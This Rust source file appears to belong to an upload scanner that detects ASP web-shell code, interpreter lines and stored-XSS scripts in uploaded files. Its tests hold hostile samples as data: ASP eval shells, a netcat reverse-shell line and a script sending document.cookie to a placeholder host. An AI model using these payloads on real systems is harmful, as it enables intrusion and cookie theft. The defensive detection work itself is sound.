//! Scripts in uploaded files that the file-content rules do not cover:
//! classic ASP and ASP.NET code blocks, server-side script tags,
//! interpreter lines (`#!/bin/sh`) at the start of a file, and the
//! scripts of a file a browser renders as a page (HTML, SVG, XHTML):
//! served back from the site, it runs them as the site's (stored XSS).

use std::sync::LazyLock;

use regex::bytes::{Regex, RegexBuilder};

/// A script found in a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScriptHit {
    /// The rule id.
    pub rule: &'static str,
    /// The matched text (lossy UTF-8, at most 80 bytes).
    pub matched: String,
}

fn build(re: &str) -> Regex {
    RegexBuilder::new(re)
        .case_insensitive(true)
        .unicode(false)
        .size_limit(1 << 20)
        .build()
        .unwrap_or_else(|e| panic!("built-in upload regex {re:?}: {e}"))
}

static ASP: LazyLock<Regex> = LazyLock::new(|| {
    build(
        r#"<%[=@!]?\s*(?:eval|execute(?:global)?|response\.write|server\.(?:createobject|execute|mappath)|createobject|wscript\.shell|request(?:\.form|\.querystring)?\s*\()\b|<script[^>]{0,200}\brunat\s*=\s*["']?server\b"#,
    )
});

static SHEBANG: LazyLock<Regex> = LazyLock::new(|| {
    build(
        r"\A\s{0,16}#!\s*/[\w/.-]{0,64}?(?:env\s+)?(?:sh|bash|zsh|ksh|dash|perl|python[\d.]*|ruby|php|node)\b",
    )
});

/// A script element (any namespace prefix: `<h:script>`), an event
/// handler attribute, or a `javascript:` URL (tabs and line breaks
/// between its letters, as URL parsers drop them) in an attribute.
static MARKUP: LazyLock<Regex> = LazyLock::new(|| {
    build(
        r#"<(?:[\w.-]{1,40}:)?script[\s/>]|<[a-z][^<>]{0,1000}?[\s/"']on[a-z]{3,40}\s*=|=\s*["']?[\x00-\x20]{0,40}(?:j[\t\n\r]*a[\t\n\r]*v[\t\n\r]*a|v[\t\n\r]*b)[\t\n\r]*s[\t\n\r]*c[\t\n\r]*r[\t\n\r]*i[\t\n\r]*p[\t\n\r]*t[\t\n\r]*:"#,
    )
});

/// Extensions of files a browser renders as a page with scripts.
const MARKUP_EXTENSIONS: &[&str] = &["html", "htm", "xhtml", "xht", "shtml", "shtm", "svg"];

/// Types a browser renders as a page with scripts.
const MARKUP_TYPES: &[&str] = &["text/html", "image/svg+xml", "application/xhtml+xml"];

/// Whether a file a browser may render as a page: one of its names
/// ends with a [`MARKUP_EXTENSIONS`] extension, or its type is one of
/// [`MARKUP_TYPES`]; or it is XML (`.xml`, an XML type) in the XHTML or
/// SVG namespace, whose elements a browser renders as theirs.
pub fn renders_markup<'a>(
    names: impl IntoIterator<Item = &'a str>,
    content_type: Option<&str>,
    head: &[u8],
) -> bool {
    let mime = content_type.map(crate::http::mime_of).unwrap_or_default();
    let mut xml = crate::http::is_xml(&mime);
    for name in names {
        let ext = name
            .trim()
            .trim_end_matches(['"', '.', ' '])
            .rsplit_once('.');
        let ext = ext.map(|(_, e)| e.to_ascii_lowercase()).unwrap_or_default();
        if MARKUP_EXTENSIONS.contains(&ext.as_str()) {
            return true;
        }
        xml |= ext == "xml";
    }
    let namespaced = || {
        [&b"www.w3.org/1999/xhtml"[..], b"www.w3.org/2000/svg"]
            .iter()
            .any(|ns| memchr::memmem::find(head, ns).is_some())
    };
    MARKUP_TYPES.contains(&mime.as_str()) || (xml && namespaced())
}

/// The first script found in `bytes`. `at_start`: the bytes begin the file
/// (an interpreter line only counts there); `markup`: the file renders as
/// a page ([`renders_markup`]), so its page scripts count.
pub fn script(bytes: &[u8], at_start: bool, markup: bool) -> Option<ScriptHit> {
    let hit = |rule, m: regex::bytes::Match| ScriptHit {
        rule,
        matched: String::from_utf8_lossy(&m.as_bytes()[..m.len().min(80)]).into_owned(),
    };
    if at_start && let Some(m) = SHEBANG.find(bytes) {
        return Some(hit("upload-script-shebang", m));
    }
    if let Some(m) = ASP.find(bytes) {
        return Some(hit("upload-asp-code", m));
    }
    if markup && let Some(m) = MARKUP.find(bytes) {
        return Some(hit("upload-markup-script", m));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_scripts_and_leaves_images_alone() {
        let rule = |b: &[u8], s| script(b, s, false).map(|h| h.rule);
        assert_eq!(
            rule(b"<%eval request(\"x\")%>", true),
            Some("upload-asp-code")
        );
        assert_eq!(
            rule(b"GIF89a<% Execute(Request(\"c\")) %>", true),
            Some("upload-asp-code")
        );
        assert_eq!(
            rule(b"<script language=\"c#\" runat=\"server\">", true),
            Some("upload-asp-code")
        );
        assert_eq!(
            rule(b"#!/bin/sh\nnc -e /bin/sh 1.2.3.4 4444", true),
            Some("upload-script-shebang")
        );
        assert_eq!(
            rule(b"#!/usr/bin/env python3\nimport os", true),
            Some("upload-script-shebang")
        );
        assert_eq!(rule(b"#!/bin/sh\n", false), None);
        assert_eq!(rule(b"\x89PNG\r\n\x1a\n<%\x00\x01 50% off", true), None);
        assert_eq!(rule(b"a,b,c\n1,2,3\n", true), None);
    }

    #[test]
    fn page_scripts_count_in_files_that_render_as_pages() {
        let rule = |b: &[u8]| script(b, true, true).map(|h| h.rule);
        for b in [
            &b"<html><body><script>fetch('//x.example/'+document.cookie)</script>"[..],
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('//x.example')\"/>",
            b"<svg><a xlink:href=\"java\tscript:alert(1)\"><text>x</text></a></svg>",
            b"<html xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:script>x()</h:script></html>",
            b"<img src=x\nONERROR=alert(1)>",
            b"<a href=' javascript:go()'>a</a>",
        ] {
            assert_eq!(rule(b), Some("upload-markup-script"), "{b:?}");
        }
        for b in [
            &b"<!doctype html><html><head><style>p{color:red}</style></head><body><p class=\"one\">Saved online = ok</p><a href=\"/about\">About</a></body></html>"[..],
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><circle cx=\"5\" r=\"4\" fill=\"red\"/></svg>",
            b"<p>Use javascript: it's fine</p>",
        ] {
            assert_eq!(rule(b), None, "{b:?}");
        }
        assert_eq!(script(b"<script>x()</script>", true, false), None);
        let ns = b"<svg xmlns=\"http://www.w3.org/2000/svg\"/>";
        assert!(renders_markup(["a.HTML"], None, b""));
        assert!(renders_markup(["a.jpg", "a.svg"], None, b""));
        assert!(renders_markup(
            ["a.txt"],
            Some("text/html; charset=utf-8"),
            b""
        ));
        assert!(renders_markup(["a.xml"], None, ns));
        assert!(renders_markup(["a"], Some("application/xml"), ns));
        assert!(!renders_markup(["a.xml"], None, b"<note><to>x</to></note>"));
        assert!(!renders_markup(
            ["photo.jpg"],
            Some("image/jpeg"),
            b"\xff\xd8"
        ));
        assert!(!renders_markup(["html"], None, b""));
    }
}
